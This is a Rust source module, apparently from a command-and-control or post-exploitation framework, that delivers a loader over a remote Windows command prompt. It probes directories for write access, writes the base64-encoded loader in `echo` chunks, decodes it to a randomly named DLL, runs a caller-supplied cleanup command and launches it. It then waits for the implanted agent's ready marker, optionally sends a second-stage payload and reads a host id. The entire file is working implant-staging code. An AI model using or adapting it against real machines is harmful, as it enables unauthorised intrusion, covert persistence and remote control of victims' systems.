//! Loader delivery over a plain command prompt.
//!
//! The loader is base64-encoded and appended to a file with `echo` in
//! bounded chunks. The first chunk doubles as a probe for a writable
//! directory. After the decode, cleanup and launch commands (all supplied by
//! the caller) the agent announces itself with a ready marker.

use super::protocol;
use crate::channel::Wire;
use crate::constants::{agent, limits};
use crate::errors::TransportError;
use crate::services::logger::Logger;
use crate::utils::random::random_token;
use crate::utils::template::{placeholders, render};
use crate::utils::text::contains_ignore_ascii_case;
use base64::Engine;
use std::collections::BTreeMap;
use std::time::Duration;

const TEMPLATE_VARS: &[&str] = &["dir", "encoded", "decoded"];

#[derive(Debug, Clone)]
pub struct BootstrapPlan {
    pub loader: Vec<u8>,
    /// Sent gzip+base64 on one line once the loader is ready.
    pub stage_two: Option<Vec<u8>>,
    pub candidate_dirs: Vec<String>,
    pub file_name: String,
    pub separator: String,
    pub chunk_size: usize,
    pub prompt: Vec<u8>,
    /// Templates over `{{dir}}`, `{{encoded}}` and `{{decoded}}`.
    pub decode_template: String,
    pub cleanup_template: Option<String>,
    pub launch_template: String,
    pub ready_marker: Vec<u8>,
    pub read_host_id: bool,
}

impl BootstrapPlan {
    pub fn new(
        loader: Vec<u8>,
        candidate_dirs: Vec<String>,
        decode_template: impl Into<String>,
        launch_template: impl Into<String>,
    ) -> Self {
        Self {
            loader,
            stage_two: None,
            candidate_dirs,
            file_name: random_token(12),
            separator: "\\".to_string(),
            chunk_size: limits::BOOTSTRAP_CHUNK,
            prompt: b">".to_vec(),
            decode_template: decode_template.into(),
            cleanup_template: None,
            launch_template: launch_template.into(),
            ready_marker: agent::READY_MARKER.to_vec(),
            read_host_id: false,
        }
    }

    pub fn with_stage_two(mut self, stage_two: Vec<u8>) -> Self {
        self.stage_two = Some(stage_two);
        self
    }

    pub fn with_cleanup(mut self, template: impl Into<String>) -> Self {
        self.cleanup_template = Some(template.into());
        self
    }

    pub fn with_file_name(mut self, name: impl Into<String>) -> Self {
        self.file_name = name.into();
        self
    }

    pub fn with_separator(mut self, separator: impl Into<String>) -> Self {
        self.separator = separator.into();
        self
    }

    pub fn with_chunk_size(mut self, size: usize) -> Self {
        self.chunk_size = size.max(1);
        self
    }

    pub fn with_prompt(mut self, prompt: impl Into<Vec<u8>>) -> Self {
        self.prompt = prompt.into();
        self
    }

    pub fn with_host_id(mut self, read: bool) -> Self {
        self.read_host_id = read;
        self
    }

    fn templates(&self) -> impl Iterator<Item = &str> {
        [self.decode_template.as_str(), self.launch_template.as_str()]
            .into_iter()
            .chain(self.cleanup_template.as_deref())
    }

    /// Rejects templates naming anything but `dir`, `encoded` and `decoded`.
    fn validate(&self) -> Result<(), TransportError> {
        if self.loader.is_empty() {
            return Err(TransportError::invalid_params("loader is empty"));
        }
        for template in self.templates() {
            if let Some(name) = placeholders(template)
                .into_iter()
                .find(|name| !TEMPLATE_VARS.contains(&name.as_str()))
            {
                return Err(TransportError::invalid_params(format!(
                    "template variable '{}' is not set",
                    name
                ))
                .with_details(serde_json::json!({ "template": template })));
            }
        }
        Ok(())
    }

    fn join(&self, dir: &str, name: &str) -> String {
        format!(
            "{}{}{}",
            dir.trim_end_matches(self.separator.as_str()),
            self.separator,
            name
        )
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BootstrapReport {
    pub directory: String,
    pub loader_path: String,
    pub chunks: usize,
    pub host_id: Option<String>,
}

/// Sends one console command and returns everything up to the next prompt,
/// excluding the echoed command line.
fn console(wire: &mut Wire, command: &str, prompt: &[u8], timeout: Duration) -> Result<Vec<u8>, TransportError> {
    wire.sendline(command.as_bytes())?;
    wire.recv_line(timeout)?;
    wire.recv_until(prompt, timeout)
}

fn failed(stage: &str, err: TransportError) -> TransportError {
    TransportError::bootstrap_failed(format!("{}: {}", stage, err.message)).with_details(
        serde_json::json!({ "stage": stage, "cause": err.code }),
    )
}

pub fn deliver(
    wire: &mut Wire,
    plan: &BootstrapPlan,
    timeout: Duration,
    logger: &Logger,
) -> Result<BootstrapReport, TransportError> {
    plan.validate()?;
    if plan.candidate_dirs.is_empty() {
        return Err(TransportError::bootstrap_failed("no candidate directories"));
    }
    let logger = logger.child("bootstrap");
    let encoded = base64::engine::general_purpose::STANDARD.encode(&plan.loader);
    let chunks: Vec<&str> = encoded
        .as_bytes()
        .chunks(plan.chunk_size)
        .map(|c| std::str::from_utf8(c).unwrap_or_default())
        .collect();

    wire.recv_until(&plan.prompt, timeout)
        .map_err(|err| failed("prompt", err))?;

    let mut selected: Option<(String, String)> = None;
    for dir in &plan.candidate_dirs {
        let path = plan.join(dir, &plan.file_name);
        let reply = console(wire, &format!("echo {} >\"{}\"", chunks[0], path), &plan.prompt, timeout)
            .map_err(|err| failed("probe", err))?;
        if contains_ignore_ascii_case(&reply, b"denied") {
            logger.debug("directory rejected", Some(&serde_json::json!({ "dir": dir })));
            continue;
        }
        logger.info("directory selected", Some(&serde_json::json!({ "dir": dir })));
        selected = Some((dir.clone(), path));
        break;
    }
    let Some((directory, loader_path)) = selected else {
        return Err(TransportError::bootstrap_failed("no writable directory")
            .with_details(serde_json::json!({ "tried": plan.candidate_dirs })));
    };

    for (index, chunk) in chunks.iter().enumerate().skip(1) {
        let reply = console(wire, &format!("echo {} >>\"{}\"", chunk, loader_path), &plan.prompt, timeout)
            .map_err(|err| failed("upload", err))?;
        if contains_ignore_ascii_case(&reply, b"denied") {
            return Err(TransportError::bootstrap_failed(format!(
                "chunk {} of {} was rejected",
                index + 1,
                chunks.len()
            ))
            .with_details(serde_json::json!({ "path": loader_path })));
        }
    }

    let mut vars: BTreeMap<&str, String> = BTreeMap::new();
    vars.insert("dir", directory.clone());
    vars.insert("encoded", loader_path.clone());
    vars.insert("decoded", plan.join(&directory, &format!("{}.dll", plan.file_name)));

    let decode = render(&plan.decode_template, &vars)?;
    console(wire, &decode, &plan.prompt, timeout).map_err(|err| failed("decode", err))?;
    if let Some(template) = plan.cleanup_template.as_deref() {
        let cleanup = render(template, &vars)?;
        console(wire, &cleanup, &plan.prompt, timeout).map_err(|err| failed("cleanup", err))?;
    }

    let launch = render(&plan.launch_template, &vars)?;
    logger.info("launching loader", Some(&serde_json::json!({ "command": launch })));
    wire.sendline(launch.as_bytes())
        .map_err(|err| failed("launch", err))?;
    wire.recv_until(&plan.ready_marker, timeout)
        .map_err(|err| failed("launch", err))?;
    wire.recv_line(timeout).map_err(|err| failed("launch", err))?;

    if let Some(stage_two) = plan.stage_two.as_deref() {
        let payload =
            protocol::encode_payload(stage_two).map_err(|err| failed("stage two", err))?;
        wire.sendline(payload.as_bytes())
            .map_err(|err| failed("stage two", err))?;
        wire.recv_until(&plan.ready_marker, timeout)
            .map_err(|err| failed("stage two", err))?;
        wire.recv_line(timeout).map_err(|err| failed("stage two", err))?;
    }

    let host_id = if plan.read_host_id {
        let line = wire.recv_line(timeout).map_err(|err| failed("host id", err))?;
        Some(protocol::line_token(&line))
    } else {
        None
    };

    Ok(BootstrapReport {
        directory,
        loader_path,
        chunks: chunks.len(),
        host_id,
    })
}
